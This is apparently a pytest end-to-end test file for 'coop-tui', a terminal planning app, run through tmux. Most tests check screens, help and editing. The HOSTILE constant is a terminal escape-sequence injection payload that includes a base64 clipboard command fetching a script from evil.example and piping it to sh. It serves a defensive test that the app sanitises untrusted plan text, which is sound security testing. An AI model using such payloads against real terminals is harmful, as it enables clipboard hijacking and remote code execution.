"""End to end: the installed `coop-tui` in a real terminal (tmux), typed at, read back."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from coop_tui.i18n import Translator
from tests.e2e.tmux import Tmux, coop_tui_command

pytestmark = [
    pytest.mark.e2e,
    pytest.mark.skipif(shutil.which("tmux") is None, reason="tmux is not installed"),
]

TODAY = "2026-03-02"
EN = Translator("en")


@pytest.fixture
def plan(tmp_path: Path) -> Path:
    path = tmp_path / "plan.json"
    env = {"COOP_TUI_TODAY": TODAY, "PATH": "/usr/bin:/bin"}
    subprocess.run([coop_tui_command(), "init", str(path), "--demo"], check=True, env=env)
    return path


@pytest.fixture
def terminal(plan: Path) -> Iterator[Tmux]:
    term = Tmux([coop_tui_command(), "--lang", "en", str(plan)],
                env={"COOP_TUI_TODAY": TODAY}, cwd=plan.parent)  # fmt: skip
    try:
        yield term
    finally:
        term.close()


def _actions(plan: Path) -> list[dict[str, object]]:
    out = subprocess.run([coop_tui_command(), "actions", str(plan), "--json"],
                         check=True, capture_output=True, text=True)  # fmt: skip
    return json.loads(out.stdout)  # type: ignore[no-any-return]


def test_demo_opens_and_quits() -> None:
    term = Tmux([coop_tui_command(), "--demo", "--lang", "fr"], env={"COOP_TUI_TODAY": TODAY})
    try:
        term.wait_for("Tableau de bord")
        term.wait_for("Coop'Vernière")
        term.send("q")
        term.wait_until_gone()
    finally:
        term.close()


def test_screens_help_and_quit(terminal: Tmux) -> None:
    term = terminal
    screen = term.wait_for("Dashboard")
    assert "A3" in term.wait_for("A3")
    titles = {key: f"— {EN.t(area + '.title')}" for key, area in
              (("1", "stakes"), ("2", "objectives"), ("3", "actions"), ("6", "dashboard"))}  # fmt: skip
    for key, title in titles.items():
        term.send(key)
        screen = term.wait_for(title)
    assert "Dashboard" in screen
    term.send("?")
    term.wait_for("Keys — Dashboard")
    term.send("Escape")
    term.wait_for(lambda s: "Keys — " not in s)
    term.send("q")
    term.wait_until_gone()


def test_board_move_and_timeline_zoom(terminal: Tmux, plan: Path) -> None:
    term = terminal
    term.wait_for("Dashboard")
    before = {a["code"]: a["status"] for a in _actions(plan)}
    term.send("4")
    term.wait_for(f"— {EN.t('board.title')}")
    term.wait_for("O1.1")
    # The first card of lane O1.1 is focused when the board opens; move it one status right.
    term.send("S-Right")
    order = ["todo", "in_progress", "blocked", "done"]

    def moved() -> dict[str, object]:
        after = {a["code"]: a["status"] for a in _actions(plan)}
        return {c: s for c, s in after.items() if before[c] != s}

    deadline = time.monotonic() + 10
    while not moved() and time.monotonic() < deadline:
        time.sleep(0.1)
    changes = moved()
    assert len(changes) == 1, changes
    code, status = next(iter(changes.items()))
    assert order.index(str(status)) == order.index(str(before[code])) + 1
    term.send("5")
    screen = term.wait_for(f"— {EN.t('timeline.title')}")
    term.send("+")
    zoomed_in = term.wait_for(lambda s: s != screen)
    term.send("-")
    term.send("-")
    term.wait_for(lambda s: s != zoomed_in)
    term.send("q")


# What a hostile partner could write into the plan file: an OSC 52 clipboard write (a command
# to paste), an OSC 0 window title, a screen clear, the same CSI as one C1 byte, a bidi override.
HOSTILE = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvc2h8c2g=\x07\x1b]0;PWNED\x07\x1b[2J\x9b31m\u202eevil"


def _pane_title(term: Tmux) -> str:
    return term._tmux("display-message", "-p", "-t", term.session, "#{pane_title}").strip()


def _buffers(term: Tmux) -> str:
    return term._tmux("list-buffers")


def _accepting(term: Tmux) -> None:
    """Let the pane set tmux's clipboard and title, as a permissive terminal would."""
    term._tmux("set-option", "-g", "set-clipboard", "on")
    term._tmux("set-option", "-g", "allow-rename", "on")


def test_the_hostile_text_would_reach_this_terminal_if_printed(tmp_path: Path) -> None:
    """The control for the next test: printed raw, the same text changes the pane's title
    and puts a buffer in tmux's clipboard, so their staying unchanged there means something."""
    # The script prints only once the pane accepts (a file says so): printed before
    # `_accepting`, tmux would take the title but not the clipboard (seen on a busy machine).
    accepting = tmp_path / "accepting"
    script = tmp_path / "raw.py"
    script.write_text(f"import os, sys, time\nwhile not os.path.exists({str(accepting)!r}):\n"
                      "    time.sleep(0.01)\n"
                      f"sys.stdout.write({HOSTILE!r})\nsys.stdout.flush()\ntime.sleep(30)\n")  # fmt: skip
    term = Tmux([sys.executable, str(script)])
    try:
        _accepting(term)
        accepting.touch()
        deadline = time.monotonic() + 10
        while _pane_title(term) != "PWNED" and time.monotonic() < deadline:
            time.sleep(0.05)
        assert _pane_title(term) == "PWNED"
        assert _buffers(term).strip()
    finally:
        term.close()


def test_escape_sequences_in_the_plan_never_reach_the_terminal(plan: Path) -> None:
    doc = json.loads(plan.read_text())
    for action in doc["actions"].values():  # whichever is selected first
        action["title"] = "A " + HOSTILE
        action["description"] = "D " + HOSTILE + "\nsecond line"
    doc["plan"]["plan"]["title"] = "T " + HOSTILE
    plan.write_text(json.dumps(doc))  # as a partner's hand or program could

    term = Tmux([coop_tui_command(), "--lang", "en", str(plan)],
                env={"COOP_TUI_TODAY": TODAY}, cwd=plan.parent)  # fmt: skip
    try:
        _accepting(term)
        term.wait_for("Dashboard")
        title = _pane_title(term)
        term.send("p")  # the project's form, its title in an input
        term.wait_for("Edit the cooperation project")
        assert _pane_title(term) == title != "PWNED"
        term.send("Escape")
        term.wait_for(lambda s: "Edit the cooperation project" not in s)
        term.send("3")  # the action plan, the first action selected
        term.wait_for(lambda s: f"— {EN.t('actions.title')}" in s and "A1 A" in s)
        term.send("e")  # its form: the title in an input, the description in a text area
        term.wait_for(lambda s: "Edit action" in s and "Action to carry out" in s)
        screen = term.screen()
        assert "PWNED" not in screen.replace("]0;PWNED", "")
        assert _pane_title(term) == title != "PWNED"
        assert not _buffers(term).strip()
        term.send("Escape")
        term.wait_for(lambda s: "Action to carry out" not in s)
        term.send("q")
        term.wait_until_gone()
    finally:
        term.close()


def test_a_phase_created_from_the_palette_lands_in_the_plan(plan: Path) -> None:
    from coop_tui.storage.store import PlanStore

    before = PlanStore(plan).read()
    last = before.sorted_phases()[-1]
    term = Tmux([coop_tui_command(), "--lang", "fr", str(plan)],
                env={"COOP_TUI_TODAY": TODAY}, cwd=plan.parent)  # fmt: skip
    try:
        term.wait_for("Tableau de bord")
        term.send("C-p")
        term.wait_for(lambda s: "palette" in s.lower() or "Rechercher" in s or "›" in s)
        term.send("-l", "Ajouter une phase")
        term.wait_for("Ajouter une phase…")
        term.send("Enter")
        term.wait_for("Nouvelle phase")
        term.send("-l", "Essaimage")
        term.wait_for("Essaimage")  # the form has the name before ctrl+s is pressed
        term.send("C-s")
        deadline = time.monotonic() + 10
        while len(PlanStore(plan).read().phases) == len(before.phases):
            assert time.monotonic() < deadline, term.screen()
            time.sleep(0.1)
        added = PlanStore(plan).read().sorted_phases()[-1]
        assert added.name == "Essaimage"
        assert last.end is not None and added.start is not None
        assert (added.start - last.end).days == 1
        term.send("q")
        term.wait_until_gone()
    finally:
        term.close()
